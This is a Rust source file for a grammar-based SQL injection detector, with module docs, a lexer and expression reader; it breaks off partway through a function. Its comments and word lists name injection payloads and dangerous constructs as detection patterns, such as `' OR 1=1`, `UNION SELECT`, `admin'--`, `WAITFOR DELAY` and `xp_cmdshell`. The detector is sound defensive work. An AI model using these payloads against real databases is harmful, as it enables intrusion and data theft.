//! SQL injection: the value is lexed as SQL in each context it can be pasted into, and the
//! token sequence that results is judged by grammar, not by keywords.
//!
//! # Why a lexer
//!
//! Keyword lists cannot tell `Please select the option that drops the least` from
//! `1; DROP TABLE users`, and they are blind to what attackers do inside the language:
//! `UNION/**/SELECT`, `/*!50000UNION*/`, `'or(1)=(1)#`, `'||'1'='1`, tabs and vertical tabs
//! between words. A small SQL lexer (`Lexer`) reads strings (doubled-quote and backslash
//! escapes), numbers (`0x41`, `1e3`), words, back-tick and bracket identifiers, operators,
//! variables (`@x`, `@@version`) and comments. Comments and every kind of whitespace
//! separate tokens, and the content of a MySQL `/*! ... */` comment is code, so all the
//! spellings above lex like their plain form.
//!
//! # Contexts and break-outs
//!
//! A value is pasted into a query as a number (or a name), inside a single-quoted string or
//! inside a double-quoted string. The value is lexed once per context: in a quoted context
//! the lexer starts inside a string, so that the attacker's first quote closes it (the
//! "break-out"), and a string left open at the end is closed by the query's own quote.
//!
//! An injection changes the query right where the value starts, so the judgement is
//! anchored there: after the break-out quote, after a leading number (`1 OR 1=1`,
//! `-1 UNION SELECT`), or, more strictly, at the first token or after a single name.
//! Closing parentheses after the anchor are skipped (`') OR ('x'='x`). The code that
//! follows must then continue the query grammatically: a boolean operator with a condition,
//! `UNION [ALL] SELECT` with a select list, `;` with a statement, `ORDER BY <n>`, a
//! comparison or an arithmetic operator with a subquery, or a comment that cuts the rest of
//! the query. Prose rarely does: after an apostrophe comes `s`, `t`, `ll` or a plural
//! possessive followed by words, which is no condition, and a whole well-formed query that
//! does not break out of anything (a SQL snippet in a support ticket) has no anchor at all.
//! The strength of the anchor sets how much is required: after a quote any comparison
//! will do, at the very start of a value only comparisons of constants (`OR 1=1`).
//!
//! A few constructs are SQL and attacks wherever they appear (`WAITFOR DELAY '0:0:5'`,
//! `BENCHMARK(1e7,`, `PG_SLEEP(`, `EXEC xp_cmdshell`, `LOAD_FILE(`, `INTO OUTFILE '`,
//! `EXTRACTVALUE(`, `OR 1=1` with two equal constants); they are found by a second,
//! streaming pass over the whole value (`anywhere`). `SLEEP(5)` counts there only where
//! SQL puts an expression (after `AND`, `SELECT`, `IF(..,`), not in `await sleep(1000)`,
//! and a value that is nothing but a delay call (`SLEEP(5)#`) counts too.
//!
//! # What the caller leaves encoded
//!
//! The caller URL-decodes, HTML-decodes and folds Unicode. Left to this module: `+` for a
//! space in values the caller does not form-decode (paths, headers, cookies), tried when
//! the value as it is shows nothing, and separators a database accepts between words:
//! Unicode whitespace and the replacement character that a lossy decoding leaves for a
//! latin1 `%a0`.
//!
//! # Rules
//!
//! When several rules hold, the first in this list is reported:
//!
//! - `sqli.time`: delays for blind injection (`SLEEP(`, `PG_SLEEP(`, `BENCHMARK(`,
//!   `WAITFOR DELAY`, `DBMS_LOCK.SLEEP`, `DBMS_PIPE.RECEIVE_MESSAGE`, `RANDOMBLOB(`);
//! - `sqli.oob`: files, commands and network (`LOAD_FILE(`, `INTO OUTFILE`, `xp_cmdshell`,
//!   `xp_dirtree`, `UTL_HTTP.`, `UTL_INADDR.`, `COPY .. PROGRAM`, `lo_import(`);
//! - `sqli.error`: error-based extraction (`EXTRACTVALUE(`, `UPDATEXML(`, `CAST(.. AS INT)`,
//!   `CONVERT(INT,`, `::int`, `FLOOR(RAND(`, `EXP(~(`, `GTID_SUBSET(`) after a break-out;
//! - `sqli.union`: `UNION [ALL|DISTINCT] SELECT` with a select list, after a break-out;
//! - `sqli.stacked`: `;` followed by a statement (`DROP TABLE`, `SELECT ..`, `EXEC`,
//!   `SHUTDOWN`, `DECLARE @x`, ...), after a break-out;
//! - `sqli.schema`: catalog tables (`information_schema`, `sqlite_master`, `pg_catalog`,
//!   `sysobjects`, `mysql.user`, ...) in injected code;
//! - `sqli.tautology`: a boolean operator and a condition after a break-out (`' OR 1=1`,
//!   `' or 'a'='a`, `1 AND 2>1`, `' AND SUBSTRING(..)='a`), or `'='` style comparisons
//!   that are always true;
//! - `sqli.function`: a string or value built by concatenation or arithmetic with a
//!   subquery or an injection function after a break-out (`'||CHR(65)||'`,
//!   `'+(SELECT ..)+'`);
//! - `sqli.column_probe`: `ORDER BY 5--` / `GROUP BY 1,2` column counting;
//! - `sqli.comment_cut`: a short break-out (one word or none) followed by a comment that
//!   cuts the rest of the query and holds no words (`admin'--`, `admin'#`, `admin')/*`,
//!   `admin' -- -`).
//!
//! Every pass is linear in the value: the lexer never backtracks, searches for closing
//! delimiters remember when there is none, the anchored judgement reads at most
//! `MAX_TOKENS` tokens, and the streaming pass keeps a window of `WINDOW` tokens.

use std::cmp::Ordering;
use std::collections::VecDeque;

use memchr::{memchr, memchr2, memmem};

use super::Match;

/// Tokens read from the anchor of a value. Injections are short; the rest of a long value
/// is only seen by the streaming pass.
const MAX_TOKENS: usize = 256;

/// Deepest nesting of parentheses the expression parser follows.
const MAX_DEPTH: usize = 12;

/// Tokens the streaming pass keeps to recognise its patterns.
const WINDOW: usize = 8;

/// Longest break-out prefix (`admin` in `admin'--`) taken for a login bypass.
const MAX_CUT_PREFIX: usize = 64;

/// What the detector reports, in order of preference.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Rule {
    Time,
    OutOfBand,
    Error,
    Union,
    Stacked,
    Schema,
    Tautology,
    Function,
    ColumnProbe,
    CommentCut,
}

impl Rule {
    fn id(self) -> &'static str {
        match self {
            Rule::Time => "sqli.time",
            Rule::OutOfBand => "sqli.oob",
            Rule::Error => "sqli.error",
            Rule::Union => "sqli.union",
            Rule::Stacked => "sqli.stacked",
            Rule::Schema => "sqli.schema",
            Rule::Tautology => "sqli.tautology",
            Rule::Function => "sqli.function",
            Rule::ColumnProbe => "sqli.column_probe",
            Rule::CommentCut => "sqli.comment_cut",
        }
    }
}

// Word lists. Words compare case-insensitively.

const BOOLEAN_WORDS: &str = "OR AND XOR";
const BOOLEAN_OPS: &[&str] = &["||", "&&"];
const COMPARISON_OPS: &[&str] = &["=", "==", "<>", "!=", "<", ">", "<=", ">=", "<=>", "!<", "!>"];
const PATTERN_WORDS: &str = "LIKE RLIKE REGEXP ILIKE GLOB";
const ARITHMETIC_OPS: &[&str] = &["+", "-", "*", "/", "%", "^", "|", "&", "<<", ">>"];
const ARITHMETIC_WORDS: &str = "DIV MOD";
const UNARY_OPS: &[&str] = &["-", "+", "~", "!"];
/// Words after which a condition ends.
const CLAUSE_WORDS: &str = "ORDER GROUP LIMIT UNION HAVING INTO PROCEDURE OFFSET";
/// Words that cannot begin an operand.
const RESERVED: &str = concat!(
    "SELECT FROM WHERE UNION AND OR XOR NOT LIKE RLIKE REGEXP ILIKE GLOB IS IN BETWEEN ORDER ",
    "GROUP BY HAVING LIMIT OFFSET INTO AS ON JOIN SET VALUES INSERT UPDATE DELETE DROP CREATE ",
    "ALTER EXEC EXECUTE DECLARE WAITFOR ALL DISTINCT THEN ELSE END WHEN PROCEDURE DIV MOD ",
    "ESCAPE COLLATE TOP",
);
/// Functions that injections call and applications rarely take from users: delays,
/// errors, files, string building, fingerprinting, branching.
const SUSPICIOUS_FUNCTIONS: &str = concat!(
    "SLEEP PG_SLEEP BENCHMARK RANDOMBLOB EXTRACTVALUE UPDATEXML GTID_SUBSET NAME_CONST ",
    "XMLTYPE LOAD_FILE HTTPURITYPE LO_IMPORT LO_EXPORT DBLINK CHAR CHR NCHAR CONCAT CONCAT_WS ",
    "GROUP_CONCAT STRING_AGG LISTAGG UNHEX HEX ASCII ORD SUBSTRING SUBSTR MID ELT MAKE_SET ",
    "VERSION USER CURRENT_USER SYSTEM_USER SESSION_USER DATABASE SCHEMA DB_NAME USER_NAME ",
    "SUSER_NAME SUSER_SNAME HOST_NAME CONNECTION_ID IF IIF EXISTS CAST CONVERT",
);
/// Oracle packages whose functions injections call (`UTL_HTTP.REQUEST(..)`).
const PACKAGES: &str = concat!(
    "UTL_HTTP UTL_INADDR UTL_FILE UTL_TCP UTL_SMTP DBMS_PIPE DBMS_LOCK DBMS_SESSION DBMS_LDAP ",
    "DBMS_JAVA DBMS_XMLGEN CTXSYS",
);
const TIME_FUNCTIONS: &str = "SLEEP PG_SLEEP BENCHMARK RANDOMBLOB";
const TIME_PACKAGES: &str = "DBMS_LOCK DBMS_PIPE DBMS_SESSION";
const OOB_FUNCTIONS: &str = "LOAD_FILE HTTPURITYPE LO_IMPORT LO_EXPORT DBLINK";
const OOB_PACKAGES: &str = "UTL_HTTP UTL_INADDR UTL_FILE UTL_TCP UTL_SMTP DBMS_LDAP DBMS_JAVA";
const ERROR_FUNCTIONS: &str = "EXTRACTVALUE UPDATEXML GTID_SUBSET NAME_CONST XMLTYPE";
const ERROR_PACKAGES: &str = "CTXSYS";
/// SQL Server procedures that run commands, reach the network or the registry.
const PROCEDURES: &str = concat!(
    "XP_CMDSHELL XP_DIRTREE XP_FILEEXIST XP_SUBDIRS XP_REGREAD XP_REGWRITE XP_SERVICECONTROL ",
    "XP_AVAILABLEMEDIA XP_LOGININFO SP_OACREATE SP_OAMETHOD SP_MAKEWEBTASK ",
    "SP_EXECUTE_EXTERNAL_SCRIPT SP_ADDLOGIN SP_ADDSRVROLEMEMBER SP_CONFIGURE",
);
/// Catalog tables and schemas that describe the database.
const CATALOGS: &str = concat!(
    "INFORMATION_SCHEMA SQLITE_MASTER SQLITE_SCHEMA SQLITE_TEMP_MASTER PG_CATALOG PG_TABLES ",
    "PG_SHADOW PG_USER PG_DATABASE PG_NAMESPACE SYSOBJECTS SYSCOLUMNS SYSDATABASES SYSUSERS ",
    "SYSLOGINS MSYSOBJECTS ALL_TABLES ALL_TAB_COLUMNS ALL_USERS USER_TABLES USER_TAB_COLUMNS ",
    "DBA_TABLES DBA_USERS V$VERSION SYSIBM",
);
/// `sys.<view>` in SQL Server.
const SYS_VIEWS: &str = "TABLES OBJECTS COLUMNS DATABASES SQL_LOGINS SCHEMAS SYSOBJECTS";
const NUMERIC_TYPES: &str = "INT INTEGER SIGNED UNSIGNED NUMERIC DECIMAL BIGINT SMALLINT FLOAT REAL";
/// What `DROP`, `CREATE` and `ALTER` act on.
const SCHEMA_OBJECTS: &str = concat!(
    "TABLE DATABASE SCHEMA VIEW USER LOGIN ROLE PROCEDURE FUNCTION INDEX TRIGGER EVENT ",
    "TEMPORARY TEMP SEQUENCE ASSEMBLY SERVER EXTENSION",
);

/// Whether `text` is one of the space-separated `words`, ignoring ASCII case. Every word
/// list is upper case, so the upper-cased text is searched as a whole word with one SIMD
/// substring search (a split-and-compare walk over the long lists was most of the cost of
/// inspecting ordinary prose).
fn is_in(text: &str, words: &str) -> bool {
    const LONGEST: usize = 48;
    if text.is_empty() || text.len() > LONGEST || text.contains(' ') {
        return !text.is_empty() && words.split(' ').any(|word| word.eq_ignore_ascii_case(text));
    }
    let mut upper = [0u8; LONGEST];
    let Some(needle) = upper.get_mut(..text.len()) else { return false };
    for (slot, byte) in needle.iter_mut().zip(text.bytes()) {
        *slot = byte.to_ascii_uppercase();
    }
    let haystack = words.as_bytes();
    let finder = memchr::memmem::Finder::new(needle);
    let mut from = 0;
    while let Some(found) = haystack.get(from..).and_then(|rest| finder.find(rest)) {
        let start = from + found;
        let end = start + needle.len();
        let starts_word = start == 0 || haystack.get(start - 1) == Some(&b' ');
        let ends_word = haystack.get(end).is_none_or(|b| *b == b' ');
        if starts_word && ends_word {
            return true;
        }
        from = start + 1;
    }
    false
}

/// Reports the first SQL injection found in `value`; see the module docs.
pub fn detect(value: &str) -> Option<Match> {
    detect_as_is(value).or_else(|| {
        // `+` for space where the caller did not undo form encoding (paths, headers,
        // cookies): `'+OR+1=1--`. Both are one byte, so spans stay the same.
        value.contains('+').then(|| detect_as_is(&value.replace('+', " "))).flatten()
    })
}

fn detect_as_is(value: &str) -> Option<Match> {
    let contexts = [None, Some(b'\''), Some(b'"')];
    // A quoted context needs its quote in the value, or the whole value stays one string.
    let possible = |quote: &&Option<u8>| quote.is_none_or(|quote| memchr(quote, value.as_bytes()).is_some());
    contexts
        .iter()
        .filter(possible)
        .find_map(|&quote| anchored(value, quote))
        .or_else(|| contexts.iter().filter(possible).find_map(|&quote| anywhere(value, quote)))
}

// ---------------------------------------------------------------------------------------
// Lexer

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// An identifier or keyword.
    Word,
    /// `` `name` `` or `[name]`.
    QuotedIdent,
    Number,
    /// A string literal. `closed` when its closing quote is in the value; `literal` when it
    /// is a complete string: closed, or left open in the quote of the context (the query's
    /// own closing quote ends it).
    Str {
        literal: bool,
        closed: bool,
    },
    /// `@name` or `@@name`.
    Variable,
    Op,
    Open,
    Close,
    Comma,
    Semicolon,
    Dot,
    Other,
    /// `cut` when the comment runs to the end of the line or of the value, cutting off the
    /// rest of the query, as opposed to an inline `/* .. */`.
    Comment {
        cut: bool,
    },
}

#[derive(Clone, Copy, Debug)]
struct Token {
    kind: Kind,
    start: usize,
    end: usize,
    /// The comment right after this token when it cuts the rest of the line or value.
    cut: Option<(usize, usize)>,
}

/// Two- and three-byte operators, longest first.
const OPERATORS: &[&[u8]] = &[
    b"<=>", b"->>", b"<=", b">=", b"<>", b"!=", b"==", b"||", b"&&", b":=", b"<<", b">>", b"::", b"->",
    b"!<", b"!>",
];

/// Non-ASCII characters that separate tokens: Unicode whitespace (databases and drivers
/// fold some of it, like `\u{a0}`, to spaces), and the replacement character that a lossy
/// decoding leaves for a byte such as `%a0` that a latin1 database reads as a space.
fn is_separator(c: char) -> bool {
    c.is_whitespace() || c == char::REPLACEMENT_CHARACTER
}

/// SQL tokens of one value in one context. Comments are tokens here; [`Significant`]
/// folds them into the token before them.
struct Lexer<'a> {
    src: &'a str,
    bytes: &'a [u8],
    pos: usize,
    /// The quote of the context; the value starts inside a string opened with it.
    quote: Option<u8>,
    breakout_pending: bool,
    /// Open MySQL `/*! .. */` comments, whose content is code.
    versioned: u32,
    /// Set when a search for a closing back-tick or bracket failed: there is none further
    /// on, so the next search is skipped (this keeps the lexer linear).
    backtick_missing: bool,
    bracket_missing: bool,
}

impl<'a> Lexer<'a> {
    fn new(src: &'a str, quote: Option<u8>) -> Lexer<'a> {
        Lexer {
            src,
            bytes: src.as_bytes(),
            pos: 0,
            quote,
            breakout_pending: quote.is_some(),
            versioned: 0,
            backtick_missing: false,
            bracket_missing: false,
        }
    }

    fn byte(&self, at: usize) -> Option<u8> {
        self.bytes.get(at).copied()
    }

    fn rest(&self, from: usize) -> &'a [u8] {
        self.bytes.get(from..).unwrap_or_default()
    }

    fn char_at(&self, at: usize) -> Option<char> {
        self.src.get(at..)?.chars().next()
    }

    fn token(&mut self, kind: Kind, start: usize, end: usize) -> Token {
        self.pos = end;
        Token { kind, start, end, cut: None }
    }

    /// The string the query opened before the value, up to the first quote that is not
    /// doubled. Backslashes do not escape here: a payload that starts with `\'` breaks out
    /// wherever backslash is not an escape, and is an attempt where it is.
    fn breakout(&mut self, quote: u8) -> Token {
        let mut at = 0;
        loop {
            match memchr(quote, self.rest(at)) {
                Some(offset) if self.byte(at + offset + 1) == Some(quote) => at += offset + 2,
                Some(offset) => {
                    return self.token(Kind::Str { literal: true, closed: true }, 0, at + offset + 1);
                }
                None => return self.token(Kind::Str { literal: false, closed: false }, 0, self.bytes.len()),
            }
        }
    }

    fn string(&mut self, quote: u8) -> Token {
        let start = self.pos;
        let mut at = start + 1;
        loop {
            match memchr2(quote, b'\\', self.rest(at)) {
                Some(offset) => {
                    let found = at + offset;
                    if self.byte(found) == Some(b'\\') || self.byte(found + 1) == Some(quote) {
                        // An escaped character or a doubled quote.
                        at = found + 2;
                    } else {
                        return self.token(Kind::Str { literal: true, closed: true }, start, found + 1);
                    }
                }
                None => {
                    let literal = self.quote == Some(quote);
                    return self.token(Kind::Str { literal, closed: false }, start, self.bytes.len());
                }
            }
        }
    }

    fn line_comment(&mut self) -> Token {
        let start = self.pos;
        let end = memchr(b'\n', self.rest(start)).map_or(self.bytes.len(), |offset| start + offset);
        self.token(Kind::Comment { cut: true }, start, end)
    }

    fn block_comment(&mut self) -> Token {
        let start = self.pos;
        match memmem::find(self.rest(start + 2), b"*/") {
            Some(offset) => self.token(Kind::Comment { cut: false }, start, start + 2 + offset + 2),
            None => self.token(Kind::Comment { cut: true }, start, self.bytes.len()),
        }
    }

    /// `/*!` or `/*!50000`: what follows is code, up to the matching `*/`.
    fn open_versioned(&mut self) {
        let mut at = self.pos + 3;
        let digits_end = at + 6;
        while at < digits_end && self.byte(at).is_some_and(|b| b.is_ascii_digit()) {
            at += 1;
        }
        self.pos = at;
        self.versioned = self.versioned.saturating_add(1);
    }

    /// A back-tick or bracket identifier, when its closing delimiter exists.
    fn delimited(&mut self, close: u8) -> Option<Token> {
        let missing = if close == b'`' { &mut self.backtick_missing } else { &mut self.bracket_missing };
        if *missing {
            return None;
        }
        let start = self.pos;
        match memchr(close, self.bytes.get(start + 1..).unwrap_or_default()) {
            Some(offset) => Some(self.token(Kind::QuotedIdent, start, start + 1 + offset + 1)),
            None => {
                *missing = true;
                None
            }
        }
    }

    fn word_end(&self, mut at: usize) -> usize {
        while let Some(b) = self.byte(at) {
            if b.is_ascii_alphanumeric() || b == b'_' || b == b'$' {
                at += 1;
            } else if b >= 0x80 {
                match self.char_at(at) {
                    Some(c) if !is_separator(c) => at += c.len_utf8(),
                    _ => break,
                }
            } else {
                break;
            }
        }
        at
    }

    fn digits_end(&self, mut at: usize, hex: bool) -> usize {
        while self.byte(at).is_some_and(|b| if hex { b.is_ascii_hexdigit() } else { b.is_ascii_digit() }) {
            at += 1;
        }
        at
    }

    fn number_end(&self, start: usize) -> usize {
        let prefixed = self.byte(start) == Some(b'0');
        match self.byte(start + 1) {
            Some(b'x' | b'X') if prefixed && self.byte(start + 2).is_some_and(|b| b.is_ascii_hexdigit()) => {
                return self.digits_end(start + 2, true);
            }
            Some(b'b' | b'B') if prefixed && matches!(self.byte(start + 2), Some(b'0' | b'1')) => {
                return self.digits_end(start + 2, false);
            }
            _ => {}
        }
        let mut at = self.digits_end(start, false);
        if self.byte(at) == Some(b'.') {
            at = self.digits_end(at + 1, false);
        }
        if matches!(self.byte(at), Some(b'e' | b'E')) {
            let mut exponent = at + 1;
            if matches!(self.byte(exponent), Some(b'+' | b'-')) {
                exponent += 1;
            }
            if self.byte(exponent).is_some_and(|b| b.is_ascii_digit()) {
                at = self.digits_end(exponent, false);
            }
        }
        at
    }

    fn operator_end(&self, start: usize) -> usize {
        let rest = self.rest(start);
        OPERATORS.iter().find(|op| rest.starts_with(op)).map_or(start + 1, |op| start + op.len())
    }

    /// Whitespace of every kind, and the `*/` that closes a versioned comment.
    fn skip_space(&mut self) {
        loop {
            match self.byte(self.pos) {
                Some(b) if b.is_ascii_whitespace() || b == 0x0b || b == 0 => self.pos += 1,
                Some(b'*') if self.versioned > 0 && self.byte(self.pos + 1) == Some(b'/') => {
                    self.pos += 2;
                    self.versioned -= 1;
                }
                Some(b) if b >= 0x80 => match self.char_at(self.pos) {
                    Some(c) if is_separator(c) => self.pos += c.len_utf8(),
                    _ => return,
                },
                _ => return,
            }
        }
    }
}

impl Iterator for Lexer<'_> {
    type Item = Token;

    fn next(&mut self) -> Option<Token> {
        if self.breakout_pending {
            self.breakout_pending = false;
            if let Some(quote) = self.quote {
                return Some(self.breakout(quote));
            }
        }
        loop {
            self.skip_space();
            let start = self.pos;
            let b = self.byte(start)?;
            let next = self.byte(start + 1);
            let token = match b {
                b'-' if next == Some(b'-') => self.line_comment(),
                b'#' => self.line_comment(),
                b'/' if next == Some(b'*') => {
                    if self.byte(start + 2) == Some(b'!') {
                        self.open_versioned();
                        continue;
                    }
                    self.block_comment()
                }
                b'\'' | b'"' => self.string(b),
                b'`' | b'[' => {
                    let close = if b == b'`' { b'`' } else { b']' };
                    match self.delimited(close) {
                        Some(token) => token,
                        None => self.token(Kind::Other, start, start + 1),
                    }
                }
                b'@' => {
                    let name = if next == Some(b'@') { start + 2 } else { start + 1 };
                    let end = self.word_end(name);
                    if end > name {
                        self.token(Kind::Variable, start, end)
                    } else {
                        self.token(Kind::Other, start, start + 1)
                    }
                }
                b'0'..=b'9' => {
                    let end = self.number_end(start);
                    self.token(Kind::Number, start, end)
                }
                b'.' if next.is_some_and(|b| b.is_ascii_digit()) => {
                    let end = self.number_end(start);
                    self.token(Kind::Number, start, end)
                }
                b'(' => self.token(Kind::Open, start, start + 1),
                b')' => self.token(Kind::Close, start, start + 1),
                b',' => self.token(Kind::Comma, start, start + 1),
                b';' => self.token(Kind::Semicolon, start, start + 1),
                b'.' => self.token(Kind::Dot, start, start + 1),
                b'=' | b'<' | b'>' | b'!' | b'|' | b'&' | b'+' | b'-' | b'*' | b'/' | b'%' | b'^' | b'~'
                | b':' => {
                    let end = self.operator_end(start);
                    self.token(Kind::Op, start, end)
                }
                _ if b.is_ascii_alphabetic() || b == b'_' || b == b'$' || b >= 0x80 => {
                    let end = self.word_end(start);
                    if end > start {
                        self.token(Kind::Word, start, end)
                    } else {
                        let width = self.char_at(start).map_or(1, char::len_utf8);
                        self.token(Kind::Other, start, start + width)
                    }
                }
                _ => self.token(Kind::Other, start, start + 1),
            };
            return Some(token);
        }
    }
}

/// The tokens of a [`Lexer`] without comments; a comment that cuts the rest of the line
/// is recorded on the token before it.
struct Significant<'a> {
    lexer: Lexer<'a>,
    pending: Option<Token>,
}

impl<'a> Significant<'a> {
    fn new(src: &'a str, quote: Option<u8>) -> Significant<'a> {
        Significant { lexer: Lexer::new(src, quote), pending: None }
    }
}

impl Iterator for Significant<'_> {
    type Item = Token;

    fn next(&mut self) -> Option<Token> {
        loop {
            let Some(token) = self.lexer.next() else {
                return self.pending.take();
            };
            match token.kind {
                Kind::Comment { cut } => {
                    if let Some(pending) = self.pending.as_mut()
                        && cut
                        && pending.cut.is_none()
                    {
                        pending.cut = Some((token.start, token.end));
                    }
                }
                _ => {
                    if let Some(previous) = self.pending.replace(token) {
                        return Some(previous);
                    }
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// Reading tokens

/// How strongly the start of the code is established.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Anchor {
    /// Right after the quote that closes the context's string.
    Quote,
    /// After a leading number.
    Number,
    /// At the first token or after a single name: only unmistakable continuations count.
    Weak,
}

/// What an operand is, as far as judging an injection goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Class {
    Number {
        truthy: bool,
    },
    Text,
    /// TRUE (`truthy`), FALSE, NULL, UNKNOWN.
    Keyword {
        truthy: bool,
    },
    Column,
    /// A subquery, a variable, a CASE, or a call of a function injections use.
    Sql,
    /// Any other function call.
    Call,
    /// A parenthesised condition; `constant` when it compares constants only.
    Condition {
        constant: bool,
    },
}

impl Class {
    fn is_literal(self) -> bool {
        matches!(self, Class::Number { .. } | Class::Text | Class::Keyword { .. })
    }

    fn is_constant(self) -> bool {
        self.is_literal() || matches!(self, Class::Sql | Class::Condition { constant: true })
    }

    /// The class of `a <op> b` for an arithmetic or concatenation operator.
    fn combine(a: Class, b: Class) -> Class {
        let either = |class: Class| a == class || b == class;
        if either(Class::Sql) {
            Class::Sql
        } else if either(Class::Column) {
            Class::Column
        } else if either(Class::Call) {
            Class::Call
        } else if matches!(a, Class::Condition { .. }) || matches!(b, Class::Condition { .. }) {
            Class::Condition { constant: a.is_constant() && b.is_constant() }
        } else if either(Class::Text) {
            Class::Text
        } else {
            Class::Number { truthy: true }
        }
    }
}

#[derive(Clone, Copy, Debug)]
enum Condition {
    /// `lhs <op> rhs`; `op` is the token index of the operator.
    Compare {
        lhs: Class,
        rhs: Class,
        op: usize,
    },
    Truthy(Class),
}

/// A constant's value, for comparisons that are always true.
#[derive(Clone, Copy, Debug)]
enum Constant<'a> {
    Number(f64),
    Text(&'a str),
}

/// Tokens of one context with the source they came from.
struct Code<'a> {
    src: &'a str,
    toks: &'a [Token],
    quote: Option<u8>,
}

impl<'a> Code<'a> {
    fn len(&self) -> usize {
        self.toks.len()
    }

    fn tok(&self, i: usize) -> Option<&Token> {
        self.toks.get(i)
    }

    fn kind(&self, i: usize) -> Option<Kind> {
        self.tok(i).map(|tok| tok.kind)
    }

    fn is(&self, i: usize, kind: Kind) -> bool {
        self.kind(i) == Some(kind)
    }

    fn is_str(&self, i: usize) -> bool {
        matches!(self.kind(i), Some(Kind::Str { .. }))
    }

    fn is_literal_str(&self, i: usize) -> bool {
        matches!(self.kind(i), Some(Kind::Str { literal: true, .. }))
    }

    fn text(&self, i: usize) -> &'a str {
        self.tok(i).and_then(|tok| self.src.get(tok.start..tok.end)).unwrap_or_default()
    }

    fn is_kw(&self, i: usize, word: &str) -> bool {
        self.is(i, Kind::Word) && self.text(i).eq_ignore_ascii_case(word)
    }

    fn kw_in(&self, i: usize, words: &str) -> bool {
        self.is(i, Kind::Word) && is_in(self.text(i), words)
    }

    fn is_op(&self, i: usize, op: &str) -> bool {
        self.is(i, Kind::Op) && self.text(i) == op
    }

    fn op_in(&self, i: usize, ops: &[&str]) -> bool {
        self.is(i, Kind::Op) && ops.contains(&self.text(i))
    }

    fn is_boolean(&self, i: usize) -> bool {
        self.kw_in(i, BOOLEAN_WORDS) || self.op_in(i, BOOLEAN_OPS)
    }

    fn is_arithmetic(&self, i: usize) -> bool {
        self.op_in(i, ARITHMETIC_OPS) || self.kw_in(i, ARITHMETIC_WORDS)
    }

    /// A cutting comment right after the token before `end`.
    fn cut_before(&self, end: usize) -> bool {
        end.checked_sub(1).and_then(|last| self.tok(last)).is_some_and(|tok| tok.cut.is_some())
    }

    fn skip_closers(&self, from: usize) -> usize {
        let mut i = from;
        while self.is(i, Kind::Close) && i - from < 8 {
            i += 1;
        }
        i
    }

    /// Byte offset where the evidence that ends before token `end` ends.
    fn byte_end(&self, end: usize, start: usize) -> usize {
        end.checked_sub(1).and_then(|last| self.tok(last)).map_or(start, |tok| tok.end).max(start)
    }

    /// The index of the parenthesis that closes the one at `open`, or the end of the
    /// tokens: the query may close what the value leaves open.
    fn matching(&self, open: usize) -> usize {
        let mut depth = 0usize;
        for (i, tok) in self.toks.iter().enumerate().skip(open) {
            match tok.kind {
                Kind::Open => depth += 1,
                Kind::Close => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return i;
                    }
                }
                _ => {}
            }
        }
        self.len()
    }

    fn after_matching(&self, open: usize) -> usize {
        (self.matching(open) + 1).min(self.len())
    }

    /// A condition ends at the end of the code, at a cutting comment, at `;` or `)`, at
    /// another boolean operator, or at a clause keyword.
    fn ends_clause(&self, end: usize) -> bool {
        if end >= self.len() || self.cut_before(end) {
            return true;
        }
        match self.kind(end) {
            Some(Kind::Semicolon | Kind::Close) => true,
            Some(Kind::Word) => self.kw_in(end, BOOLEAN_WORDS) || self.kw_in(end, CLAUSE_WORDS),
            Some(Kind::Op) => self.op_in(end, BOOLEAN_OPS),
            _ => false,
        }
    }

    /// `name`, `schema.table.column`, `master..xp_cmdshell`, `t.*`: the index after it.
    fn name_end(&self, start: usize) -> usize {
        let mut end = start + 1;
        loop {
            let mut next = end;
            while self.is(next, Kind::Dot) && next - end < 2 {
                next += 1;
            }
            if next == end {
                return end;
            }
            if self.is(next, Kind::Word) || self.is(next, Kind::QuotedIdent) || self.is_op(next, "*") {
                end = next + 1;
            } else {
                return end;
            }
        }
    }

    /// The value of a number or string constant.
    fn constant(&self, i: usize) -> Option<Constant<'a>> {
        let tok = self.tok(i)?;
        match tok.kind {
            Kind::Number => parse_number(self.text(i)).map(Constant::Number),
            Kind::Str { literal: true, closed } => {
                // The break-out string has no opening quote in the value.
                let breakout = self.quote.is_some() && tok.start == 0;
                let start = if breakout { tok.start } else { tok.start + 1 };
                let end = if closed { tok.end.saturating_sub(1) } else { tok.end };
                self.src.get(start..end.max(start)).map(Constant::Text)
            }
            _ => None,
        }
    }

    // --- Expressions -----------------------------------------------------------------

    /// An operand: a primary with unary prefixes, followed by arithmetic on more primaries.
    fn operand(&self, start: usize, depth: usize) -> Option<(Class, usize)> {
        let (mut class, mut end) = self.unary_primary(start, depth)?;
        while self.is_arithmetic(end) {
            let Some((right, after)) = self.unary_primary(end + 1, depth) else { break };
            class = Class::combine(class, right);
            end = after;
        }
        Some((class, end))
    }

    fn unary_primary(&self, start: usize, depth: usize) -> Option<(Class, usize)> {
        if depth > MAX_DEPTH {
            return None;
        }
        let mut i = start;
        while i - start < 4 && (self.op_in(i, UNARY_OPS) || self.kw_in(i, "NOT BINARY")) {
            i += 1;
        }
        let (class, mut end) = self.primary(i, depth)?;
        // Casts and collations keep the class: `(..)::int`, `x COLLATE utf8_bin`.
        while (self.is_op(end, "::") || self.is_kw(end, "COLLATE")) && self.tok(end + 1).is_some() {
            end += 2;
        }
        Some((class, end))
    }

    fn primary(&self, i: usize, depth: usize) -> Option<(Class, usize)> {
        let tok = self.tok(i)?;
        match tok.kind {
            Kind::Number => Some((Class::Number { truthy: is_truthy_number(self.text(i)) }, i + 1)),
            Kind::Str { literal: true, .. } => Some((Class::Text, i + 1)),
            Kind::Variable => Some((Class::Sql, i + 1)),
            Kind::QuotedIdent => Some((Class::Column, self.name_end(i))),
            Kind::Open => self.group(i, depth),
            Kind::Word => self.word_operand(i),
            _ => None,
        }
    }

    fn word_operand(&self, i: usize) -> Option<(Class, usize)> {
        let text = self.text(i);
        if is_in(text, "TRUE FALSE NULL UNKNOWN") {
            return Some((Class::Keyword { truthy: text.eq_ignore_ascii_case("TRUE") }, i + 1));
        }
        if text.eq_ignore_ascii_case("CASE") {
            return Some((Class::Sql, self.case_end(i)));
        }
        // Typed and charset literals: N'..', X'41', _utf8'..'.
        let adjacent_string = self.tok(i + 1).is_some_and(|next| {
            matches!(next.kind, Kind::Str { literal: true, .. })
